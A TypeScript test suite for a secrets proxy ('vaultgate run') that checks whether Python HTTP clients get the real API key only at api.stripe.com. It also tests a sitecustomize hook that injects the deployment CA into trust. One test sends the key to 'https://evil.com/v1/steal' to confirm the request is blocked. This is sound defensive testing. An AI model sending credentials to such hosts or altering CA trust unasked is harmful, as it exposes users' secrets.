// Python clients under `vaultgate run` (Debian's python3): requests, httpx, urllib, urllib3, and clients pinned to their own CA bundle.
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { rootCertificates } from 'node:tls';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { requireBuiltCli } from '../helpers/kit.js';
import { agentWith, allUpstreamBytes, header, runAs, startWorld, type AgentFx, type RunResult, type World } from '../proxy/helpers.js';

/** Debian's interpreter, with python3-requests and python3-httpx (.ci/run installs them). */
const python = '/usr/bin/python3';
const VALUE = 'sk_live_PythonClients_5e8d2a71c0';
const blockedBody = { error: 'request blocked: destination not allowed for this secret', code: 'proxy_blocked' };
const placeholder = /^vgph_[0-9A-Za-z]{40}$/;

let w: World;
let fx: AgentFx;
let scratch: string;
/** Public roots only, as a pinned SDK ships them (stripe-python's data/ca-certificates.crt): no Vaultgate CA. */
let pinned: string;

beforeAll(async () => {
  requireBuiltCli();
  if (!existsSync(python)) throw new Error(`${python} is missing: install python3 (see .ci/run)`);
  w = await startWorld();
  fx = await agentWith(w.s, [{ key: 'STRIPE_KEY', value: VALUE, allowed_domains: ['api.stripe.com'] }]);
  w.up.routes.set('/v1/', (_q, res) => res.setHeader('content-type', 'application/json').end('{"object":"balance"}'));
  scratch = mkdtempSync(join(tmpdir(), 'vg-python-clients-'));
  pinned = join(scratch, 'pinned-public-roots.pem');
  writeFileSync(pinned, `${rootCertificates.join('\n')}\n`);
});
afterAll(async () => {
  await w.close();
  rmSync(scratch, { recursive: true, force: true });
});
beforeEach(() => w.up.reset());

/**
 * A script that defines `get(url, headers) -> (status, text)` with one client; the common part
 * calls it with the placeholder in Authorization and prints the env variable beside the answer.
 */
function script(client: string): string {
  return `import json, os, sys
KEY = os.environ["STRIPE_KEY"]
PINNED = ${JSON.stringify(pinned)}
${client}
status, text = get(sys.argv[1], {"Authorization": "Bearer " + KEY})
print(json.dumps({"env": KEY, "status": status, "text": text}))
`;
}

const urllibGet = (context: string) => `import urllib.request, urllib.error
def get(url, headers):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), context=${context}) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()`;

interface Client { name: string; code: string; pinned: boolean }
const clients: Client[] = [
  { name: 'requests (REQUESTS_CA_BUNDLE)', pinned: false, code: 'import requests\ndef get(url, headers):\n    r = requests.get(url, headers=headers)\n    return r.status_code, r.text' },
  { name: 'httpx, HTTP/1.1 (SSL_CERT_FILE)', pinned: false, code: 'import httpx\ndef get(url, headers):\n    r = httpx.get(url, headers=headers)\n    return r.status_code, r.text' },
  { name: 'urllib (default context)', pinned: false, code: urllibGet('None') },
  { name: 'requests, verify=<pinned bundle>', pinned: true, code: 'import requests\ndef get(url, headers):\n    r = requests.get(url, headers=headers, verify=PINNED)\n    return r.status_code, r.text' },
  { name: 'httpx.Client(verify=<pinned bundle>)', pinned: true, code: 'import httpx\ndef get(url, headers):\n    with httpx.Client(verify=PINNED) as c:\n        r = c.get(url, headers=headers)\n        return r.status_code, r.text' },
  { name: 'urllib, ssl.create_default_context(cafile=<pinned bundle>)', pinned: true, code: `import ssl\n${urllibGet('ssl.create_default_context(cafile=PINNED)')}` },
  {
    // urllib3 takes no proxy from the environment: like requests, the caller builds the ProxyManager.
    // (urllib3 1.26 cannot take ca_cert_data on a PoolManager; its own context with cadata is the way.)
    name: 'urllib3 ProxyManager, its SSL context loaded with cadata=<pinned PEM>',
    pinned: true,
    code: `import urllib3, urllib.parse
from urllib3.util.ssl_ import create_urllib3_context
def get(url, headers):
    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
    auth = urllib3.make_headers(proxy_basic_auth=urllib.parse.unquote(proxy.username) + ":" + urllib.parse.unquote(proxy.password))
    ctx = create_urllib3_context()
    with open(PINNED) as f:
        ctx.load_verify_locations(cadata=f.read())
    pm = urllib3.ProxyManager("http://%s:%d" % (proxy.hostname, proxy.port), proxy_headers=auth, ssl_context=ctx)
    r = pm.request("GET", url, headers=headers, retries=False)
    return r.status, r.data.decode()`,
  },
];

interface Out { env: string; status: number; text: string }
async function run(code: string, url: string, opts: { flags?: string[]; env?: Record<string, string> } = {}): Promise<{ r: RunResult; out: Out | null }> {
  const r = await runAs(w.s, fx.id, [python, ...(opts.flags ?? []), '-c', code, url], { env: opts.env ?? {} });
  let out: Out | null = null;
  try {
    out = JSON.parse(r.stdout) as Out;
  } catch {
    // left null: the caller's assertion shows stdout and stderr
  }
  return { r, out };
}

describe('each Python client reaches the API with the real value, and only there', () => {
  it.each(clients)('$name', async (c) => {
    const path = `/v1/balance/${c.name.replace(/\W+/g, '-')}`;
    const { r, out } = await run(script(c.code), `https://api.stripe.com${path}`);
    expect([r.code, r.stderr]).toEqual([0, '']);
    expect(out).toEqual({ env: fx.ph.STRIPE_KEY, status: 200, text: '{"object":"balance"}' });
    expect(out!.env).toMatch(placeholder);
    expect(w.up.requests.map((q) => [q.sni, q.url])).toEqual([['api.stripe.com', path]]);
    expect(header(w.up.requests[0]!, 'authorization')).toBe(`Bearer ${VALUE}`);
  });

  it.each(clients)('$name, pointed at a host the secret is not allowed for: blocked with 403, nothing upstream', async (c) => {
    const { r, out } = await run(script(c.code), 'https://evil.com/v1/steal');
    expect(r.code, r.stderr).toBe(0);
    expect(out?.env).toBe(fx.ph.STRIPE_KEY);
    expect([out?.status, JSON.parse(out?.text ?? 'null')]).toEqual([403, blockedBody]);
    expect(w.up.requests).toEqual([]);
    expect(allUpstreamBytes(w.up)).not.toContain(VALUE);
  });
});

describe('the sitecustomize that makes pinned bundles trust the deployment CA', () => {
  const pinnedRequests = clients.find((c) => c.name.startsWith('requests, verify='))!;

  const defaultRequests = clients.find((c) => c.name.startsWith('requests (REQUESTS_CA_BUNDLE)'))!;

  // -I and -E ignore PYTHONPATH and -S skips sitecustomize, so the hook never loads: a pinned client
  // then fails verification (docs/run.md). This is also the control showing that the hook is what helps.
  // urllib: -S also drops dist-packages, so the pinned client here is the standard library's.
  const pinnedUrllib = clients.find((c) => c.name.startsWith('urllib, ssl.create_default_context(cafile='))!;
  it.each([['-I'], ['-E'], ['-S']])('python3 %s skips it: the pinned client fails TLS verification and nothing goes upstream', async (flag) => {
    const { r } = await run(script(pinnedUrllib.code), 'https://api.stripe.com/v1/isolated', { flags: [flag] });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('CERTIFICATE_VERIFY_FAILED');
    expect(w.up.requests).toEqual([]);
  });

  it.each([['-I'], ['-E']])('python3 %s: a client on the default trust still works (REQUESTS_CA_BUNDLE is not a PYTHON* variable)', async (flag) => {
    const { r, out } = await run(script(defaultRequests.code), 'https://api.stripe.com/v1/isolated-default', { flags: [flag] });
    expect([r.code, r.stderr]).toEqual([0, '']);
    expect(out?.status).toBe(200);
    expect(header(w.up.requests[0]!, 'authorization')).toBe(`Bearer ${VALUE}`);
  });

  it('a sitecustomize already on PYTHONPATH still runs after it, and the parent PYTHONPATH entries stay importable', async () => {
    const own = mkdtempSync(join(scratch, 'own-site-'));
    writeFileSync(join(own, 'sitecustomize.py'), 'import os\nos.environ["OWN_SITECUSTOMIZE"] = "ran"\n');
    writeFileSync(join(own, 'own_helper.py'), 'GREETING = "own module"\n');
    const code = script(`import sitecustomize, own_helper
print(json.dumps({"own": os.environ.get("OWN_SITECUSTOMIZE"), "module": own_helper.GREETING, "sitecustomize": sitecustomize.__file__, "path": os.environ["PYTHONPATH"]}))
${pinnedRequests.code}`);
    const { r } = await run(code, 'https://api.stripe.com/v1/chained', { env: { PYTHONPATH: own } });
    expect([r.code, r.stderr]).toEqual([0, '']);
    const [first, second] = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(first).toMatchObject({ own: 'ran', module: 'own module', sitecustomize: join(own, 'sitecustomize.py') });
    // The hook's directory first, the parent's entries after it.
    expect(String(first!.path).split(':').slice(1)).toEqual([own]);
    expect(second).toEqual({ env: fx.ph.STRIPE_KEY, status: 200, text: '{"object":"balance"}' });
    expect(header(w.up.requests[0]!, 'authorization')).toBe(`Bearer ${VALUE}`);
  });

  it("Debian's own sitecustomize still runs when nothing else shadows it", async () => {
    const r = await runAs(w.s, fx.id, [python, '-c', 'import sitecustomize; print(sitecustomize.__file__)']);
    expect([r.code, r.stderr]).toEqual([0, '']);
    expect(r.stdout.trim()).toMatch(/^\/usr\/lib\/python3\.\d+\/sitecustomize\.py$/);
  });

  it('a failing sitecustomize it shadows is reported as Python reports it, and the child still runs', async () => {
    const own = mkdtempSync(join(scratch, 'broken-site-'));
    writeFileSync(join(own, 'sitecustomize.py'), 'raise ValueError("broken on purpose")\n');
    const code = script(pinnedRequests.code);
    const { r, out } = await run(code, 'https://api.stripe.com/v1/broken', { env: { PYTHONPATH: own } });
    expect([r.code, r.stderr]).toEqual([0, 'Error in sitecustomize; set PYTHONVERBOSE for traceback:\nValueError: broken on purpose\n']);
    expect(out).toEqual({ env: fx.ph.STRIPE_KEY, status: 200, text: '{"object":"balance"}' });
  });

  it('an unreadable VAULTGATE_CA_FILE leaves Python as it was: nothing patched, nothing printed, the chain still runs', async () => {
    const check = 'import ssl, sitecustomize; print(getattr(ssl.SSLContext.load_verify_locations, "_vaultgate", False), sitecustomize.__file__)';
    const r = await runAs(w.s, fx.id, ['sh', '-c', `VAULTGATE_CA_FILE=${join(scratch, 'missing.pem')} exec ${python} -c '${check}'`]);
    expect([r.code, r.stderr]).toEqual([0, '']);
    expect(r.stdout).toMatch(/^False \/usr\/lib\/python3\.\d+\/sitecustomize\.py\n$/);
  });

  it('the child gets the deployment CA alone in VAULTGATE_CA_FILE', async () => {
    const r = await runAs(w.s, fx.id, [python, '-c', 'import os; print(open(os.environ["VAULTGATE_CA_FILE"]).read(), end="")']);
    expect([r.code, r.stderr]).toEqual([0, '']);
    expect(r.stdout).toBe(`${fx.ca.trim()}\n`);
  });
});
